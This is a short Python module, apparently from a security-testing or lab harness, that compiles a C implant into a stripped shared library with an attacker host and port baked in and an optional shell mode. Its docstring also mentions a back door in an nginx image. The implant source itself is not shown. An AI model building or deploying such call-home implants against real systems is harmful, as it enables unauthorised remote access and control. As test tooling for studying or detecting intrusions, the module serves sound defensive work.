"""Compiles what attackers bring: implant.c for one use, which calls home to this address, and the back door of the nginx image.

    library = build_implant(home, shell=False)      # its bytes
"""

import subprocess
import tempfile
from pathlib import Path

from .attacker import Home

SOURCES = Path(__file__).parent


def compile_library(source: str, target: Path, *options: str) -> None:
    subprocess.run(["cc", "-shared", "-fPIC", "-O1", "-s", *options, "-o", str(target), str(SOURCES / source)], check=True)


def build_implant(home: Home, shell: bool = False) -> bytes:
    with tempfile.TemporaryDirectory(prefix="da-implant-") as directory:
        made = Path(directory) / "implant.so"
        compile_library("implant.c", made, f"-DIMPLANT_PORT={home.port}", f'-DIMPLANT_HOST="{home.host}"',
                        *(["-DIMPLANT_SHELL"] if shell else []))
        return made.read_bytes()
